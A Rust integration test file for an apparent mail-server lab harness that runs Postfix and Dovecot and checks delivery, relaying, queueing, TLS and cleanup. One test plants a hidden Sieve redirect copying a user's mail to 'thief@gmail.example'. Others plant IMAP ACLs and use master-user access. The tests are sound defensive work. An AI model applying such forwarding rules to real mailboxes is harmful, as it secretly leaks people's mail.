//! Real servers: what goes in by SMTP comes out by IMAP, and nothing is left behind.

use std::fs;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use mailwarden_lab::dovecot::MAIL_UID;
use mailwarden_lab::imap::{Imap, Status};
use mailwarden_lab::managesieve::{ManageSieve, Script};
use mailwarden_lab::process::owner_of;
use mailwarden_lab::smtp::Smtp;
use mailwarden_lab::wait::wait_for;
use mailwarden_lab::{Lab, LabError, LabOptions, MilterAt, OutsideWorld, Result, packages};

const SOON: Duration = Duration::from_secs(20);
const ALICE: &str = "alice@example.test";
const BOB: &str = "bob@example.test";

fn lab(options: LabOptions) -> Result<Lab> {
    packages::ensure_installed(&mut |_step| {})?;
    Lab::new(options)
}

fn message(subject: &str) -> String {
    format!("From: Vendor <news@vendor.test>\nTo: {ALICE}\nSubject: {subject}\n\nbody of {subject}\n")
}

#[test]
fn mail_from_outside_reaches_the_mailbox_as_from_outside() {
    let lab = lab(LabOptions::default()).unwrap();
    let outcome =
        lab.smtp_from_outside().unwrap().send("news@vendor.test", &[ALICE], message("one")).unwrap();
    assert!(outcome.is_accepted(), "{outcome:?}");
    let delivered = lab.wait_for_message(ALICE, SOON, |mail| mail.header("Subject") == Some("one")).unwrap();
    let traces = delivered.header_all("Received");
    assert!(
        traces
            .iter()
            .any(|trace| trace.starts_with("from mail.vendor.test (mail.vendor.test [203.0.113.9])"))
    );
    assert_eq!(delivered.header("Return-Path"), Some("<news@vendor.test>"));
    lab.postfix.wait_until_log(&format!("{}: removed", outcome.queue_id().unwrap()), SOON).unwrap();
    assert_eq!(owner_of(&lab.dovecot.home(ALICE)).unwrap(), MAIL_UID);
    let mut session = lab.imap(ALICE).unwrap();
    session.select("INBOX").unwrap();
    assert_eq!(session.search_header("Subject", "one").unwrap(), [delivered.uid]);
    assert_eq!(session.search_header("Subject", "two").unwrap(), Vec::<u32>::new());
    assert!(String::from_utf8(session.fetch(delivered.uid).unwrap()).unwrap().contains("body of one"));
}

#[test]
fn a_stranger_cannot_relay_and_gets_no_header_added() {
    let lab = lab(LabOptions::default()).unwrap();
    let mut session = lab.smtp_from_outside().unwrap();
    let refused = session.send("news@vendor.test", &["x@elsewhere.test"], message("relay")).unwrap();
    assert_eq!(refused.refusal().unwrap().code, 454, "{refused:?}");
    assert_eq!(refused.recipients[0].1.enhanced.as_deref(), Some("4.7.1"));
    session.send("news@vendor.test", &[ALICE], "Subject: bare\n\nno From here\n").unwrap();
    let bare = lab.wait_for_message(ALICE, SOON, |mail| mail.header("Subject") == Some("bare")).unwrap();
    assert_eq!(bare.header("From"), None);
}

#[test]
fn a_planted_script_runs_and_its_redirect_leaves_through_postfix() {
    let lab = lab(LabOptions { outside: OutsideWorld::Collected, ..LabOptions::default() }).unwrap();
    let mut scripts = lab.managesieve(ALICE).unwrap();
    scripts.putscript("forward", "require \"copy\"; redirect :copy \"thief@gmail.example\";\r\n").unwrap();
    scripts.putscript("harmless", "keep;\r\n").unwrap();
    scripts.setactive("forward").unwrap();
    let mut listed = scripts.listscripts().unwrap();
    listed.sort_by(|one, other| one.name.cmp(&other.name));
    let script = |name: &str, active| Script { name: name.to_owned(), active };
    assert_eq!(listed, [script("forward", true), script("harmless", false)]);
    let refused = scripts.putscript("broken", "redirekt;").unwrap_err().to_string();
    assert!(refused.contains("redirekt"), "{refused}");

    lab.smtp_from_outside().unwrap().send("news@vendor.test", &[ALICE], message("secret")).unwrap();
    let outside = lab.outside().unwrap();
    let departed = outside.wait_for(SOON, |mail| mail.recipients == ["thief@gmail.example"]).unwrap();
    assert_eq!(departed.envelope_sender, "news@vendor.test");
    assert!(departed.message.contains("X-Sieve-Redirected-From: alice@example.test"), "{}", departed.message);
    lab.wait_for_message(ALICE, SOON, |mail| mail.header("Subject") == Some("secret")).unwrap();

    assert!(scripts.getscript("forward").unwrap().contains("thief@gmail.example"));
    scripts.setactive("").unwrap();
    scripts.deletescript("forward").unwrap();
    assert_eq!(scripts.listscripts().unwrap(), [script("harmless", false)]);
}

#[test]
fn rights_and_annotations_are_planted_by_imap_and_seen_by_the_grantee() {
    let lab = lab(LabOptions::default()).unwrap();
    let mut alice = lab.imap(ALICE).unwrap();
    alice.create("Secret").unwrap();
    alice.setacl("Secret", BOB, "lr").unwrap();
    alice.setmetadata("Secret", "/shared/comment", Some("a \"quoted\"\r\nvalue")).unwrap();
    alice.setmetadata("", "/shared/imapsieve/script", Some("forward")).unwrap();
    let stored = alice.expect_ok("GETMETADATA Secret (/shared/comment)").unwrap();
    assert_eq!(stored.untagged[0].literals, [b"a \"quoted\"\r\nvalue".to_vec()]);
    alice.append("Secret", message("planted")).unwrap();

    let mut bob = lab.imap(BOB).unwrap();
    let shared = "shared/alice@example.test/Secret";
    assert!(bob.list().unwrap().contains(&shared.to_owned()));
    bob.select(shared).unwrap();
    assert_eq!(bob.messages().unwrap()[0].header("Subject"), Some("planted"));
    assert_eq!(bob.getacl(shared).unwrap().status, Status::No);

    alice.deleteacl("Secret", BOB).unwrap();
    assert!(!lab.imap(BOB).unwrap().list().unwrap().contains(&shared.to_owned()));
}

#[test]
fn the_master_user_reads_and_plants_but_never_sends() {
    let lab = lab(LabOptions::default()).unwrap();
    let login = format!("{ALICE}*{}", lab.dovecot.master_user());
    let rights = |lab: &Lab| {
        let mut session = Imap::open(lab.dovecot.imap_port(), &login, "sweeppw").unwrap();
        session.getacl("INBOX").unwrap()
    };
    assert_eq!(rights(&lab).status, Status::Ok);
    assert_eq!(
        ManageSieve::open(lab.dovecot.sieve_port(), &login, "sweeppw").unwrap().listscripts().unwrap(),
        []
    );
    let mut submission = Smtp::connect(lab.postfix.submission_port()).unwrap();
    submission.ehlo("laptop.lab.test").unwrap();
    assert_eq!(submission.auth_plain(&login, "sweeppw").unwrap().code, 535);

    lab.dovecot.set_master_password("changed").unwrap();
    let old = Imap::open(lab.dovecot.imap_port(), &login, "sweeppw").unwrap_err();
    assert!(matches!(old, LabError::Answer { .. }) && !old.to_string().contains("sweeppw"), "{old}");
    Imap::open(lab.dovecot.imap_port(), &login, "changed").unwrap();
}

#[test]
fn without_acl_user_the_master_user_is_blind() {
    let lab = lab(LabOptions { acl_user: false, ..LabOptions::default() }).unwrap();
    let mut session = Imap::open(lab.dovecot.imap_port(), &format!("{ALICE}*sweeper"), "sweeppw").unwrap();
    assert_eq!(session.getacl("INBOX").unwrap().status, Status::No);
}

#[test]
fn submission_wants_a_password_and_then_relays() {
    let lab = lab(LabOptions { outside: OutsideWorld::Collected, ..LabOptions::default() }).unwrap();
    let mut anonymous = Smtp::connect(lab.postfix.submission_port()).unwrap();
    anonymous.ehlo("laptop.lab.test").unwrap();
    let refused = anonymous.send(ALICE, &["friend@elsewhere.test"], message("no")).unwrap();
    assert!(refused.refusal().unwrap().is_permanent(), "{refused:?}");
    assert_eq!(anonymous.auth_plain(ALICE, "wrong").unwrap().code, 535);

    let sent =
        lab.submission(ALICE).unwrap().send(ALICE, &["friend@elsewhere.test"], message("yes")).unwrap();
    assert!(sent.is_accepted(), "{sent:?}");
    lab.outside().unwrap().wait_for(SOON, |mail| mail.recipients == ["friend@elsewhere.test"]).unwrap();
    assert_eq!(lab.outside().unwrap().departed().len(), 1);
}

#[test]
fn sendmail_aliases_and_outside_mail_take_their_ways() {
    let entry = |key: &str, value: &str| (key.to_owned(), value.to_owned());
    let lab = lab(LabOptions {
        virtual_aliases: vec![entry("sales@example.test", ALICE), entry("sales@example.test", BOB)],
        aliases: vec![entry("cron", BOB)],
        local_domains: vec!["host.test".to_owned()],
        ..LabOptions::default()
    })
    .unwrap();
    let sent = lab.postfix.sendmail(&["-f", ALICE, "sales@example.test"], message("offer")).unwrap();
    assert_eq!((sent.code, sent.stderr.as_str()), (Some(0), ""));
    for user in [ALICE, BOB] {
        lab.wait_for_message(user, SOON, |mail| mail.header("Subject") == Some("offer")).unwrap();
    }
    lab.postfix.sendmail(&["-f", ALICE, "cron@host.test"], message("job")).unwrap();
    lab.wait_for_message(BOB, SOON, |mail| mail.header("Subject") == Some("job")).unwrap();
    lab.postfix.sendmail(&["-f", ALICE, "root@host.test", "x@gmail.example"], message("lost")).unwrap();
    let bounce = lab
        .wait_for_message(ALICE, SOON, |mail| {
            mail.header("X-Failed").is_none() && mail.header("Return-Path") == Some("<>")
        })
        .unwrap();
    assert!(bounce.header("Subject").unwrap().contains("Undelivered"), "{bounce:?}");
    lab.postfix.wait_until_log("5.1.2", SOON).unwrap();

    lab.postfix.set_virtual_aliases(&[entry("sales@example.test", "ops@example.test")]).unwrap();
    lab.postfix.reload().unwrap();
    lab.postfix.sendmail(&["-f", ALICE, "sales@example.test"], message("moved")).unwrap();
    lab.wait_for_message("ops@example.test", SOON, |mail| mail.header("Subject") == Some("moved")).unwrap();
}

#[test]
fn mail_waits_in_the_queue_while_the_mailbox_server_is_down() {
    let lab = lab(LabOptions::default()).unwrap();
    lab.dovecot.stop().unwrap();
    assert_eq!(lab.dovecot.pid(), None);
    let outcome =
        lab.smtp_from_outside().unwrap().send("news@vendor.test", &[ALICE], message("late")).unwrap();
    let deferred = || {
        let queue = lab.postfix.queue().unwrap();
        queue.into_iter().find(|message| message.queue == "deferred")
    };
    let waiting = mailwarden_lab::wait::wait_until(SOON, "a deferred message", deferred).unwrap();
    assert_eq!(Some(waiting.id), outcome.queue_id());
    assert_eq!(waiting.recipients, [ALICE]);
    assert!(waiting.reason.contains("Connection refused"), "{}", waiting.reason);
    assert_eq!(waiting.envelope_sender, "news@vendor.test");
    lab.dovecot.start().unwrap();
    lab.postfix.flush_queue().unwrap();
    lab.wait_for_message(ALICE, SOON, |mail| mail.header("Subject") == Some("late")).unwrap();
    lab.postfix.wait_until_queue_empty(SOON).unwrap();
}

#[test]
fn an_absent_milter_defers_and_a_reload_puts_it_away() {
    let lab = lab(LabOptions { milter: MilterAt::LabSocket, ..LabOptions::default() }).unwrap();
    let send =
        || lab.smtp_from_outside().unwrap().send("news@vendor.test", &[ALICE], message("gate")).unwrap();
    for _ in 0..5 {
        let refused = send();
        assert_eq!(refused.refusal().unwrap().code, 451, "{refused:?}");
        lab.postfix.append_main_cf("smtpd_milters =").unwrap();
        lab.postfix.reload().unwrap();
        let accepted = send();
        assert!(accepted.is_accepted(), "{accepted:?}");
        lab.postfix
            .append_main_cf(&format!("smtpd_milters = unix:{}", lab.milter_socket().display()))
            .unwrap();
        lab.postfix.reload().unwrap();
    }
    let told = lab.postfix.postconf(&["-h", "smtpd_milters"]).unwrap();
    assert!(told.stdout.contains("gate.sock"), "{told:?}");
}

#[test]
fn pcre_tables_and_the_lines_of_a_test_are_in_force() {
    let lab = lab(LabOptions {
        main_cf: "relay_domains = scope.example.test\nrelay_recipient_maps =\n\
                  relay_transport = lmtp:unix:/nonexistent/lmtp\n\
                  smtpd_sender_restrictions = check_sender_access pcre:{{/^blocked@/ REJECT not you}}"
            .to_owned(),
        ..LabOptions::default()
    })
    .unwrap();
    let mut session = lab.smtp_from_outside().unwrap();
    let blocked = session.send("blocked@vendor.test", &[ALICE], message("no")).unwrap();
    assert!(blocked.refusal().unwrap().text().contains("not you"), "{blocked:?}");
    let scoped = session.send("news@vendor.test", &["shop@scope.example.test"], message("scope")).unwrap();
    assert!(scoped.is_accepted(), "{scoped:?}");
    let told = lab.postfix.postconf(&["-n"]).unwrap();
    assert_eq!((told.code, told.stderr.as_str()), (Some(0), ""));
}

#[test]
fn users_come_change_and_go_while_dovecot_runs() {
    let lab = lab(LabOptions::default()).unwrap();
    let port = lab.dovecot.imap_port();
    lab.dovecot.add_user("eve@example.test", "evepw").unwrap();
    lab.imap("eve@example.test").unwrap().create("Hers").unwrap();
    let told = lab.dovecot.doveadm(&["user", "*"]).unwrap();
    assert!(told.stdout.lines().any(|line| line == "eve@example.test"), "{told:?}");
    lab.dovecot.add_user("eve@example.test", "newpw").unwrap();
    assert!(Imap::open(port, "eve@example.test", "evepw").is_err());
    lab.dovecot.set_extra_fields("eve@example.test", "nologin=y reason=offboarded").unwrap();
    let refused = Imap::open(port, "eve@example.test", "newpw").unwrap_err().to_string();
    assert!(refused.contains("offboarded"), "{refused}");
    lab.dovecot.remove_user("eve@example.test").unwrap();
    assert_eq!(lab.dovecot.doveadm(&["user", "eve@example.test"]).unwrap().code, Some(67));
    assert!(lab.dovecot.home("eve@example.test").join("Maildir").is_dir());
}

#[test]
fn failed_logins_slow_nobody_down() {
    let lab = lab(LabOptions::default()).unwrap();
    let start = Instant::now();
    for _ in 0..6 {
        assert!(Imap::open(lab.dovecot.imap_port(), ALICE, "wrong").is_err());
    }
    lab.imap(ALICE).unwrap();
    lab.submission(ALICE).unwrap();
    assert!(start.elapsed() < Duration::from_secs(5), "{:?}", start.elapsed());
}

#[test]
fn tls_shows_a_certificate_of_the_lab() {
    let lab = lab(LabOptions::default()).unwrap();
    let (imap, imaps, sieve) = (lab.dovecot.imap_port(), lab.dovecot.imaps_port(), lab.dovecot.sieve_port());
    for (port, starttls) in [(imap, Some("imap")), (imaps, None), (sieve, Some("sieve"))] {
        let mut client = Command::new("openssl");
        client.args(["s_client", "-verify_return_error", "-verify_ip", "127.0.0.1", "-brief", "-CAfile"]);
        client.arg(lab.ca().authority()).args(["-connect", &format!("127.0.0.1:{port}")]);
        client.args(starttls.iter().flat_map(|protocol| ["-starttls", protocol]));
        let output = client.stdin(std::process::Stdio::null()).output().unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.success() && said.contains("Verification: OK"), "{port}: {said}");
    }
}

#[test]
fn a_child_of_the_lab_ends_with_it() {
    let lab = lab(LabOptions::default()).unwrap();
    let child =
        lab.spawn("sleeper", Command::new("/bin/sh").args(["-c", "echo up; exec sleep 600"])).unwrap();
    child.wait_for_line("up", SOON).unwrap();
    assert_eq!(lab.child_log("sleeper"), "up\n");
    lab.leave_nothing().unwrap();
    assert!(!child.is_running());
}

#[test]
fn nothing_is_left_after_a_drop_a_stop_or_a_panic() {
    let lab_by_stop = lab(LabOptions::default()).unwrap();
    let footprint = lab_by_stop.footprint();
    // Sessions in progress have processes of their own, which must go too.
    let _imap = lab_by_stop.imap(ALICE).unwrap();
    let _smtp = lab_by_stop.smtp_from_outside().unwrap();
    assert!(lab_by_stop.postfix.pid().is_some() && lab_by_stop.dovecot.pid().is_some());
    lab_by_stop.leave_nothing().unwrap();
    assert_eq!(footprint.living(), Vec::<i32>::new());
    lab_by_stop.leave_nothing().unwrap();
    assert_eq!(lab_by_stop.postfix.pid().or(lab_by_stop.dovecot.pid()), None);
    let path = lab_by_stop.path().to_owned();
    drop(lab_by_stop);
    assert_gone(&footprint.living(), &path);

    let panicking = lab(LabOptions::default()).unwrap();
    let (footprint, path) = (panicking.footprint(), panicking.path().to_owned());
    assert!(footprint.living().len() > 5, "{:?}", footprint.living());
    let outcome = std::thread::spawn(move || {
        let _held = panicking;
        panic!("a failing assertion, on purpose");
    });
    assert!(outcome.join().is_err());
    assert_gone(&footprint.living(), &path);
}

fn assert_gone(living: &[i32], path: &Path) {
    assert_eq!(living, Vec::<i32>::new());
    assert!(!path.exists());
}

#[test]
fn a_kept_lab_leaves_its_files_and_no_process() {
    let mut kept = lab(LabOptions::default()).unwrap();
    kept.keep().unwrap();
    let (footprint, path) = (kept.footprint(), kept.path().to_owned());
    drop(kept);
    assert_eq!(footprint.living(), Vec::<i32>::new());
    assert!(path.join("postfix/etc/main.cf").exists());
    fs::remove_dir_all(path).unwrap();
}

#[test]
fn labs_run_side_by_side() {
    packages::ensure_installed(&mut |_step| {}).unwrap();
    let started = Instant::now();
    let labs: Vec<_> =
        (0..4).map(|_| std::thread::spawn(|| Lab::new(LabOptions::default()).unwrap())).collect();
    let labs: Vec<Lab> = labs.into_iter().map(|thread| thread.join().unwrap()).collect();
    eprintln!("four labs up in {:?}", started.elapsed());
    for (number, lab) in labs.iter().enumerate() {
        let subject = format!("lab {number}");
        lab.smtp_from_outside().unwrap().send("news@vendor.test", &[ALICE], message(&subject)).unwrap();
        lab.wait_for_message(ALICE, SOON, |mail| mail.header("Subject") == Some(&subject)).unwrap();
    }
    for lab in &labs {
        let mut session = lab.imap(ALICE).unwrap();
        session.select("INBOX").unwrap();
        assert_eq!(session.messages().unwrap().len(), 1);
    }
    let stopping = Instant::now();
    drop(labs);
    eprintln!("four labs gone in {:?}", stopping.elapsed());
}

/// The best of several rounds: what other programs do on the machine must not decide, a server that waits for
/// itself must (Postfix rereads a fresh main.cf for two seconds, Dovecot's logger lingers for one).
#[test]
fn a_lab_is_up_and_gone_in_time() {
    packages::ensure_installed(&mut |_step| {}).unwrap();
    let rounds = (0..4).map(|_| {
        let start = Instant::now();
        let lab = Lab::new(LabOptions::default()).unwrap();
        let up = start.elapsed();
        lab.smtp_from_outside().unwrap().send("news@vendor.test", &[ALICE], message("soon")).unwrap();
        lab.wait_for_message(ALICE, SOON, |mail| mail.header("Subject") == Some("soon")).unwrap();
        let delivered = start.elapsed();
        let stopping = Instant::now();
        drop(lab);
        (up, delivered, stopping.elapsed())
    });
    let rounds: Vec<_> = rounds.collect();
    eprintln!("up, first delivery, gone: {rounds:?}");
    assert!(rounds.iter().any(|(up, ..)| *up < Duration::from_millis(1_500)), "{rounds:?}");
    assert!(rounds.iter().any(|(.., gone)| *gone < Duration::from_millis(800)), "{rounds:?}");
}

#[test]
fn a_lab_whose_process_is_killed_is_cleaned_up() {
    const MARK: &str = "LAB_TEST_HOLDER";
    if let Ok(report) = std::env::var(MARK) {
        let held = lab(LabOptions::default()).unwrap();
        fs::write(&report, held.path().as_os_str().as_encoded_bytes()).unwrap();
        loop {
            std::thread::park();
        }
    }
    let scratch = tempfile::tempdir().unwrap();
    let report = scratch.path().join("path");
    let mut holder = Command::new(std::env::current_exe().unwrap())
        .args(["--exact", "a_lab_whose_process_is_killed_is_cleaned_up"])
        .env(MARK, &report)
        .spawn()
        .unwrap();
    let told = || fs::read_to_string(&report).ok().filter(|path| !path.is_empty());
    let path = mailwarden_lab::wait::wait_until(SOON, "the held lab", told).unwrap();
    let path = Path::new(&path);
    assert!(mailwarden_lab::process::living_under(path).len() > 5);
    holder.kill().unwrap();
    holder.wait().unwrap();
    let gone = || !path.exists() && mailwarden_lab::process::living_under(path).is_empty();
    wait_for(SOON, "the guard's work", gone).unwrap();
}

#[test]
fn sessions_in_progress_do_not_hold_up_the_end() {
    let rounds = (0..3).map(|_| {
        let lab = lab(LabOptions::default()).unwrap();
        let sessions =
            (lab.imap(ALICE).unwrap(), lab.managesieve(ALICE).unwrap(), lab.submission(ALICE).unwrap());
        let stopping = Instant::now();
        lab.leave_nothing().unwrap();
        let gone = stopping.elapsed();
        drop(sessions);
        gone
    });
    let rounds: Vec<Duration> = rounds.collect();
    assert!(rounds.iter().any(|gone| *gone < Duration::from_millis(800)), "{rounds:?}");
}
